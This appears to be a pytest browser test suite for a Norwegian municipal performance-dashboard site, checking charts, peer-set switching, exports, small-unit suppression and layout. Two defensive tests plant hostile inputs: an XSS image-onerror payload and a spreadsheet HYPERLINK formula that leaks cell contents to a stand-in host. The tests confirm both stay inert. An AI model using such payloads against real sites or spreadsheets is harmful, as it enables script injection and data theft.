"""The dashboards in headless Chromium (Debian's chromium + chromedriver; .ci/run installs them):
every page renders its charts without console errors, the peer-set selector changes the figures,
and the overview gets a screenshot. Plus the downloads and what the site must never contain."""

from __future__ import annotations

import re
import shutil
import time
from pathlib import Path

import duckdb
import pytest
from openpyxl import load_workbook

CHROMIUM, CHROMEDRIVER = "/usr/bin/chromium", "/usr/bin/chromedriver"
FLAGS = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
         "--disable-background-networking", "--disable-component-update", "--disable-sync",
         "--window-size=1400,1800"]  # fmt: skip


@pytest.fixture(scope="module")
def site(stavanger: Path) -> Path:
    folder = stavanger / "data/outputs/dashboards"
    assert (folder / "index.html").exists()
    return folder


@pytest.fixture(scope="module")
def browser(tmp_path_factory):
    if not (Path(CHROMIUM).exists() and Path(CHROMEDRIVER).exists()):
        pytest.fail("Debian's chromium and chromium-driver are needed (.ci/run installs them)")
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    for flag in FLAGS:
        options.add_argument(flag)
    options.add_argument(f"--user-data-dir={tmp_path_factory.mktemp('chromium')}")
    options.binary_location = CHROMIUM
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    driver = webdriver.Chrome(service=Service(CHROMEDRIVER), options=options)
    yield driver
    driver.quit()


def open_page(browser, path: Path, fragment: str = "") -> float:
    start = time.perf_counter()
    browser.get(path.as_uri() + fragment)
    for _ in range(200):
        if browser.execute_script("return document.body && document.body.dataset.ready"):
            return time.perf_counter() - start
        time.sleep(0.05)
    raise AssertionError(f"{path.name} never finished drawing")


def wait_ready(browser) -> None:
    for _ in range(200):
        if browser.execute_script("return document.body.dataset.ready") == "1":
            return
        time.sleep(0.05)
    raise AssertionError("the page never finished drawing")


def console_errors(browser) -> list[str]:
    return [e["message"] for e in browser.get_log("browser") if e["level"] == "SEVERE"]


def test_every_page_renders_its_charts_without_console_errors(site: Path, browser) -> None:
    # the pages with charts: overview and service areas (målekart, worklist, årshjul: tables)
    pages = sorted(
        p
        for p in site.glob("*.html")
        if "MALESTOKK_DATA" in (text := p.read_text(encoding="utf-8"))
        or "MALESTOKK_OVERVIEW" in text
    )
    assert len(pages) >= 7  # overview + six service areas at least (målekart pages: below)
    for page in pages:
        open_page(browser, page)
        charts = browser.execute_script(
            "return document.querySelectorAll('.js-plotly-plot').length"
        )
        svg = browser.execute_script("return document.querySelectorAll('svg.main-svg').length")
        assert charts == (3 if page.name == "index.html" else 2), page.name
        assert svg >= charts, page.name
        assert console_errors(browser) == [], page.name
        text = browser.find_element("tag name", "body").text
        assert "Kilde: Statistisk sentralbyrå" in text or "Källa: Kolada" in text, page.name
        # every chart: its title clear of the plotly toolbar, and an axis title (the unit)
        layout = browser.execute_script(LAYOUT_PROBE)
        for chart in layout:
            assert chart["title"] and chart["axis_titles"] >= 1, (page.name, chart)
            # a long title wraps inside the chart, never runs past its right edge
            assert chart["title"]["right"] <= chart["plot"]["right"] + 1, (page.name, chart)
            toolbar = chart["toolbar"]
            if toolbar:
                assert chart["title"]["top"] >= toolbar["bottom"] - 0.5, (page.name, chart)
        # no bar or tick label cut off with an ellipsis
        assert "…" not in " ".join(c["ticks"] for c in layout), page.name
        shots = site.parent / "screenshots"
        shots.mkdir(exist_ok=True)
        browser.save_screenshot(str(shots / f"{page.stem}.png"))  # for a developer to open


LAYOUT_PROBE = """
return [...document.querySelectorAll('.js-plotly-plot')].map((g) => {
  const title = g.querySelector('.gtitle');
  const bar = g.querySelector('.modebar');
  const box = (el) => { const r = el.getBoundingClientRect(); return {top: r.top,
    bottom: r.bottom, left: r.left, right: r.right}; };
  return {id: g.id, plot: box(g), title: title ? box(title) : null, toolbar: bar ? box(bar) : null,
          axis_titles: g.querySelectorAll('.g-xtitle text, .g-ytitle text').length,
          ticks: [...g.querySelectorAll('.ytick text, .xtick text')].map((t) => t.textContent)
                 .join(' ')};
});
"""


def test_the_overview_answers_where_we_stand_in_the_chosen_language(site: Path, browser) -> None:
    browser.get("about:blank")
    open_page(browser, site / "index.html")
    chart = browser.execute_script("return document.getElementById('overview-chart').data[0]")
    counted = browser.execute_script(
        "return [...document.querySelectorAll('#overview tbody tr')].map((r) => "
        "[r.cells[1].textContent, Number(r.cells[2].textContent)])"
    )
    # the chart and the table count the same year and the same nøkkeltall
    assert len({year for year, _ in counted}) == 1
    assert sum(n for _, n in counted) == len(chart["x"])
    assert "Hvor står vi?" in browser.find_element("tag name", "body").text
    browser.get("about:blank")
    open_page(browser, site / "index.html", "#lang=en")
    text = browser.find_element("tag name", "body").text
    assert "Where do we stand?" in text and "Hvor står vi" not in text
    assert "Sick leave by service area" in text


def test_switching_peer_set_changes_the_figures(site: Path, browser) -> None:
    from selenium.webdriver.support.ui import Select

    page = site / "pleie-og-omsorg.html"
    open_page(browser, page, "#peer=kostra_group&year=2024")
    before = browser.execute_script("return document.getElementById('trend').data[1].y")
    bars_before = browser.execute_script("return document.getElementById('rank').data[0].y.length")
    Select(browser.find_element("id", "peer")).select_by_value("asss")
    wait_ready(browser)  # the ASSS members' values load when the set is chosen
    after = browser.execute_script("return document.getElementById('trend').data[1].y")
    bars_after = browser.execute_script("return document.getElementById('rank').data[0].y.length")
    assert after != before  # the ASSS average is not the KOSTRA group figure
    assert bars_after == 12 and bars_before != bars_after  # 12 ASSS members in 2024
    assert "peer=asss" in browser.execute_script("return location.hash")
    first_row = browser.find_element("css selector", "#table tbody tr td:nth-child(3)").text
    assert first_row != "\u2013"  # an en dash marks a missing value


def test_the_table_gives_every_gap_its_unit_and_a_share_in_prosentpoeng(
    site: Path, browser, stavanger: Path
) -> None:
    """The table's gap column says what the difference is: prosentpoeng for a percentage (with
    its decimal, as the report writes it), the figure's own unit otherwise."""
    import duckdb

    open_page(browser, site / "barnehage.html", "#peer=kostra_group&year=2024")
    cells = [
        (row.find_element("css selector", "td:nth-child(1)").text,
         row.find_element("css selector", "td:nth-child(4)").text)
        for row in browser.find_elements("css selector", "#table tbody tr")
    ]  # fmt: skip
    con = duckdb.connect(str(stavanger / "data/warehouse/malestokk.duckdb"), read_only=True)
    expected = dict(con.execute(
        "SELECT label, gap_points FROM mart_comparisons WHERE service_area = 'barnehage' "
        "AND peer_set = 'kostra_group' AND year = 2024 AND release = 'latest' "
        "AND unit IN ('prosent', '%') AND gap_points IS NOT NULL"
    ).fetchall())  # fmt: skip
    con.close()
    shares = {label: gap for label, gap in cells if label in expected}
    assert shares
    for label, gap in shares.items():
        number = f"{expected[label]:+.1f}".replace(".", ",").replace("-", "\u2212")
        assert gap.endswith(" prosentpoeng") and number.lstrip("+\u2212") in gap, (label, gap)
    kroner = [gap for label, gap in cells if "kr" in gap]
    assert kroner and all(g.endswith(" kr") for g in kroner)
    assert not [g for _, g in cells if g.rstrip().endswith("%")]


def test_english_labels_on_request(site: Path, browser) -> None:
    browser.get("about:blank")
    open_page(browser, site / "okonomi.html", "#lang=en")
    text = browser.find_element("tag name", "body").text
    assert "Peer set" in text and "Overview" in text and "Only key figures are compared" in text
    for norwegian in ("Sammenligning", "Oversikt", "utvalg", "nøytral"):
        assert norwegian not in text, norwegian


def test_overview_screenshot(site: Path, browser, tmp_path: Path) -> None:
    open_page(browser, site / "index.html")
    shot = tmp_path / "overview.png"
    browser.save_screenshot(str(shot))
    assert shot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and shot.stat().st_size > 20_000
    shutil.copy(shot, site.parent / "overview-screenshot.png")  # beside the site, for a look


def test_tables_download_as_csv_and_excel_with_the_same_rows(site: Path) -> None:
    csv_rows = (site / "pleie-og-omsorg.csv").read_text(encoding="utf-8").splitlines()
    sheet = load_workbook(site / "pleie-og-omsorg.xlsx").active
    assert sheet.max_row == len(csv_rows) > 1
    assert csv_rows[0].split(";")[:5] == [
        "release",
        "release_kind",
        "indicator_id",
        "label",
        "unit",
    ]
    # Norwegian Excel reads ';' and a decimal comma; figures carry their unit's decimals
    header = csv_rows[0].split(";")
    at_unit, at_home = header.index("unit"), header.index("home_value")
    for line in csv_rows[1:]:
        cells = line.split(";")
        if len(cells) != len(header) or not cells[at_home]:
            continue
        assert "." not in cells[at_home], line
        decimals = len(cells[at_home].partition(",")[2])
        assert decimals <= {"kr": 0, "prosent": 1}.get(cells[at_unit], 2), line


def test_the_site_never_shows_a_small_unit(site: Path) -> None:
    pages = [p for p in site.glob("*.html") if not p.name.startswith("malekart")]
    text = "".join(p.read_text(encoding="utf-8") for p in pages)
    assert "Fysioterapi Storhaug" not in text  # 3 employees: only suppressed area totals appear


def test_malekart_pages_have_four_panels_and_show_no_hidden_figure(
    stavanger: Path, site: Path, browser
) -> None:
    con = duckdb.connect(str(stavanger / "data/warehouse/malestokk.duckdb"), read_only=True)
    units = [r[0] for r in con.execute(
        "SELECT DISTINCT unit_id FROM mart_malekart WHERE level = 'enhet' ORDER BY 1"
    ).fetchall()]  # fmt: skip
    areas = [r[0] for r in con.execute(
        "SELECT DISTINCT service_area FROM mart_malekart WHERE level = 'tjenesteområde'"
    ).fetchall()]  # fmt: skip
    assert len(units) >= 6 and len(areas) >= 3
    pages = ["malekart.html", *(f"malekart-enhet-{u}.html" for u in units),
             *(f"malekart-{a.replace(' ', '-')}.html" for a in areas)]  # fmt: skip
    for name in pages:
        browser.get((site / name).as_uri())
        panels = browser.find_elements("css selector", "section.panel h2")
        assert [p.text for p in panels] == [
            "Tjenester og brukere", "Økonomi", "Organisasjon og medarbeidere", "Samfunn"
        ], name  # fmt: skip
        assert console_errors(browser) == [], name
    # Fysioterapi Storhaug (3 employees): its page says its sick leave is hidden, and why
    browser.get((site / "malekart-enhet-4002.html").as_uri())
    row = browser.find_element("css selector", "tr.mk-grey").text
    assert "Sykefravær" in row and "\u2013" in row and "skjult: færre enn 5 ansatte" in row
    private = duckdb.connect(str(stavanger / "data/private/local.duckdb"), read_only=True)
    hidden = private.execute(
        "SELECT 100 * sum(self_certified_days + doctor_certified_days) / sum(contracted_days) "
        "FROM sick_leave WHERE unit_id = '4002' AND period LIKE '2024%' AND is_current"
    ).fetchone()[0]
    assert f"{hidden:.1f}".replace(".", ",") not in browser.find_element("tag name", "body").text
    # every hidden figure in the mart is a dash and a reason on its page, never a number
    for unit, label in con.execute(
        "SELECT unit_id, label FROM mart_malekart WHERE status_reason = 'suppressed' "
        "AND level = 'enhet'"
    ).fetchall():
        browser.get((site / f"malekart-enhet-{unit}.html").as_uri())
        rows = browser.execute_script(
            "return [...document.querySelectorAll('table.malekart tbody tr')]"
            ".map((r) => [...r.cells].map((c) => c.textContent))"
        )
        shown = next(r for r in rows if r[0] == label)
        assert shown[2] == "\u2013" and "skjult:" in shown[4], shown


def test_a_resultatdialog_sheet_per_unit_with_its_malekart(stavanger: Path) -> None:
    from docx import Document

    con = duckdb.connect(str(stavanger / "data/warehouse/malestokk.duckdb"), read_only=True)
    units = dict(con.execute(
        "SELECT DISTINCT unit_id, unit_name FROM mart_malekart WHERE level = 'enhet'"
    ).fetchall())  # fmt: skip
    folder = stavanger / "data/outputs/resultatdialog"
    sheets = sorted(folder.glob("resultatdialog-*.docx"))
    assert len(sheets) == len(units) and len(list(folder.glob("*.pdf"))) == len(units)
    doc = Document(str(next(s for s in sheets if s.name.endswith("-4002.docx"))))
    title = doc.paragraphs[0].text
    assert title.startswith("Resultatdialog 2024: Fysioterapi Storhaug")
    headings = [p.text for p in doc.paragraphs if p.style.name.startswith("Heading")]
    assert {"Tjenester og brukere", "Økonomi", "Organisasjon og medarbeidere", "Samfunn",
            "Tiltak til neste periode (hva, hvem, når)"} <= set(headings)  # fmt: skip
    cells = [c.text for t in doc.tables for row in t.rows for c in row.cells]
    assert any("skjult: færre enn 5 ansatte" in c for c in cells)
    assert "SYNTETISKE DEMODATA" in doc.sections[0].header.paragraphs[0].text


def test_serve_shows_the_same_pages_on_localhost(stavanger: Path, site: Path) -> None:
    import socket
    import subprocess
    import sys
    import urllib.request

    from tests.conftest import ROOT

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    config = stavanger / "malestokk.toml"
    server = subprocess.Popen(
        [sys.executable, "-m", "pipelines.cli", "--config", str(config), "serve", "--port",
         str(port)], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
    )  # fmt: skip
    try:
        for _ in range(100):
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/pleie-og-omsorg.html") as r:
                    body = r.read()
                break
            except OSError:
                time.sleep(0.1)
        else:
            raise AssertionError("malestokk serve never answered")
        assert body == (site / "pleie-og-omsorg.html").read_bytes()
    finally:
        server.terminate()
        server.wait(timeout=10)


def test_the_csv_button_downloads_the_rows_on_screen(site: Path, browser) -> None:
    open_page(browser, site / "pleie-og-omsorg.html", "#peer=asss&year=2024")
    text = browser.execute_async_script(
        """
        const done = arguments[arguments.length - 1];
        HTMLAnchorElement.prototype.click = function () {};  // no real download
        URL.createObjectURL = (blob) => { blob.text().then(done); return "blob:test"; };
        malestokkDownloadCsv();
        """
    )
    lines = text.removeprefix("\ufeff").splitlines()
    shown = browser.execute_script("return document.querySelectorAll('#table tbody tr').length")
    assert lines[0].startswith("indicator_id;year;vintage;peer_set") and len(lines) == shown + 1
    assert all(";2024;" in line and ";asss;" in line for line in lines[1:])
    assert not any(re.search(r"\d\.\d", line) for line in lines[1:])  # decimal comma
    assert not any(re.search(r",\d{5,}", line) for line in lines[1:])  # no float noise


def test_a_peer_set_can_be_chosen_by_its_plain_name(site: Path, browser) -> None:
    browser.get("about:blank")  # a fresh load: a hash change alone does not reload the page
    open_page(browser, site / "okonomi.html", "#peer=ASSS-snitt&year=2024")  # by its label
    chosen = browser.execute_script("return document.getElementById('peer').value")
    assert chosen == "asss"


HOSTILE = '<img src=x onerror="window.__xss=(window.__xss||0)+1">'


def test_text_from_apis_and_settings_stays_text_in_the_page(
    stavanger: Path, browser, tmp_path: Path
) -> None:
    """A KPI title (from Kolada) and a peer-set label (from the settings) carrying markup are
    shown as the literal text; nothing in them runs."""
    import duckdb

    from dashboards.site import build_site

    copy = tmp_path / "w.duckdb"
    shutil.copy(stavanger / "data/warehouse/malestokk.duckdb", copy)
    con = duckdb.connect(str(copy))
    indicator = con.execute(
        "SELECT indicator_id FROM mart_comparisons WHERE service_area = 'pleie og omsorg' "
        "ORDER BY 1 LIMIT 1"
    ).fetchone()[0]
    title, label = f"KPI {HOSTILE} tittel", f"Nabo {HOSTILE} sett"
    con.execute("UPDATE mart_comparisons SET label = ? WHERE indicator_id = ?", [title, indicator])
    con.execute("UPDATE mart_comparisons SET peer_label = ? WHERE peer_set = 'asss'", [label])
    # the ranked bars' names come from mart_peer_values (KLASS/Kolada names)
    con.execute("UPDATE mart_peer_values SET region_label = ? WHERE region_code = '4601'",
                [f"Bergen {HOSTILE}"])  # fmt: skip
    out = tmp_path / "site"
    build_site(con, out)
    con.close()
    open_page(browser, out / "pleie-og-omsorg.html", f"#peer=asss&year=2024&indicator={indicator}")
    assert browser.execute_script("return window.__xss") is None
    assert browser.execute_script("return document.querySelectorAll('#table img, select img, "
                                  "#trend img, #rank img').length") == 0  # fmt: skip
    options = browser.execute_script(
        "return [...document.querySelectorAll('#peer option, #indicator option')]"
        ".map((o) => o.textContent)"
    )
    assert label in options and title in options
    cells = browser.execute_script(
        "return [...document.querySelectorAll('#table td')].map((td) => td.textContent)"
    )
    assert title in cells
    trend_title = browser.execute_script(
        "return document.querySelector('#trend .gtitle').textContent"
    )
    # shown as text, on as many lines as the chart's width needs (a line break, not a space)
    assert trend_title.replace(" ", "").startswith(title.replace(" ", ""))
    assert "<img" in trend_title
    ranked = browser.execute_script("return document.getElementById('rank').textContent")
    assert "Bergen <img" in ranked
    assert console_errors(browser) == []


def test_choosing_a_release_shows_that_releases_figures(stavanger: Path, site: Path, browser):
    import duckdb

    con = duckdb.connect(str(stavanger / "data/warehouse/malestokk.duckdb"), read_only=True)
    (march,) = con.execute("SELECT release FROM core_releases WHERE kind = 'unrevised'").fetchone()
    expected = con.execute(
        "SELECT label, home_value FROM mart_comparisons WHERE release = ? AND year = 2024 "
        "AND peer_set = 'kostra_group' AND service_area = 'pleie og omsorg' "
        "AND (home_value IS NOT NULL OR peer_value IS NOT NULL) ORDER BY indicator_id",
        [march],
    ).fetchall()
    assert expected  # 12293 was recorded from its 15 March release
    open_page(
        browser, site / "pleie-og-omsorg.html", f"#peer=kostra_group&year=2024&release={march}"
    )
    shown = browser.execute_script(
        "return [...document.querySelectorAll('#table tbody tr')].map((tr) => "
        "[tr.children[0].textContent, tr.children[1].textContent])"
    )
    assert [label for label, _ in shown] == [label for label, _ in expected]
    choice = browser.execute_script(
        "const s = document.getElementById('release'); return s.options[s.selectedIndex].text"
    )
    assert choice == f"{march} (foreløpige tall)"
    # a release that covered no figure of the year is not offered: the page shows today's
    (empty,) = con.execute(
        "SELECT release FROM mart_comparisons WHERE release <> 'latest' AND peer_set = "
        "'kostra_group' AND service_area = 'barnehage' GROUP BY 1 HAVING count(*) FILTER (WHERE "
        "year = 2024 AND (home_value IS NOT NULL OR peer_value IS NOT NULL)) = 0 LIMIT 1"
    ).fetchone()
    open_page(browser, site / "barnehage.html", f"#peer=kostra_group&year=2024&release={empty}")
    offered = browser.execute_script(
        "return [...document.getElementById('release').options].map((o) => o.value)"
    )
    assert empty not in offered and offered[0] == "latest"
    assert browser.execute_script("return document.getElementById('release').value") == "latest"
    rows = browser.execute_script("return document.querySelectorAll('#table tbody tr').length")
    assert rows > 0 and empty not in browser.current_url


def test_no_export_holds_a_live_formula(stavanger: Path, tmp_path: Path) -> None:
    import duckdb

    from dashboards.site import build_site

    copy = tmp_path / "w.duckdb"
    shutil.copy(stavanger / "data/warehouse/malestokk.duckdb", copy)
    con = duckdb.connect(str(copy))
    formula = '=HYPERLINK("http://example.test/?"&A1,"klikk")'
    con.execute("UPDATE mart_comparisons SET label = ? WHERE service_area = 'barnehage'",
                [formula])  # fmt: skip
    con.execute("UPDATE mart_comparisons SET peer_label = '@SUM(1+1)' WHERE peer_set = 'asss'")
    build_site(con, tmp_path / "site")
    con.close()
    book = load_workbook(tmp_path / "site/barnehage.xlsx")
    cells = [c for row in book.active.iter_rows() for c in row if isinstance(c.value, str)]
    assert formula in [c.value for c in cells] and "@SUM(1+1)" in [c.value for c in cells]
    assert not [c for c in cells if c.data_type == "f"]  # text, not formulas
    text = (tmp_path / "site/barnehage.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text and "'@SUM(1+1)" in text
    assert not any(field.startswith(("=", "@", "+")) for line in text.splitlines()
                   for field in line.split(";"))  # fmt: skip


OVERFLOW_PROBE = """
const width = document.documentElement.clientWidth;
const wide = [...document.querySelectorAll('body *')].filter((el) => {
  if (el.ownerSVGElement) return false;  // an SVG clips its own content: the svg is measured
  const r = el.getBoundingClientRect();
  if (r.width === 0 || r.right <= width + 1) return false;
  // inside a box that scrolls sideways, an element may be wider than the page
  for (let p = el.parentElement; p; p = p.parentElement) {
    const scrolls = ['auto', 'scroll'].includes(getComputedStyle(p).overflowX);
    if (scrolls && p.getBoundingClientRect().right <= width + 1) return false;
  }
  return true;
}).map((el) => el.tagName + (el.id ? '#' + el.id : '') + '.' + el.className);
return {scroll: document.documentElement.scrollWidth, width: width,
        viewport: !!document.querySelector('meta[name=viewport]'), wide: wide.slice(0, 5)};
"""


@pytest.mark.parametrize("width", [390, 1400])
def test_no_page_is_wider_than_a_phone_or_a_desktop_screen(site: Path, browser, width) -> None:
    """At 390 px (a phone) and 1400 px every page lays out at the screen's width: nothing sticks
    out of the page; a wide table scrolls inside its card."""
    browser.set_window_size(width, 900)
    try:
        pages = sorted(site.glob("*.html"))
        assert any(p.name.startswith("malekart-enhet") for p in pages)
        assert {"kvalitetssjekk.html", "arshjul.html"} <= {p.name for p in pages}
        for page in pages:
            text = page.read_text(encoding="utf-8")
            if "MALESTOKK_DATA" in text or "MALESTOKK_OVERVIEW" in text:
                open_page(browser, page)  # drawn by the page script: wait until it is done
            else:  # written whole (målekart, worklist, årshjul): laid out once loaded
                browser.get(page.as_uri())
            probe = browser.execute_script(OVERFLOW_PROBE)
            assert probe["viewport"], page.name
            assert probe["scroll"] <= probe["width"] + 1, (page.name, probe)
            assert probe["wide"] == [], (page.name, probe)
    finally:
        browser.set_window_size(1400, 1800)
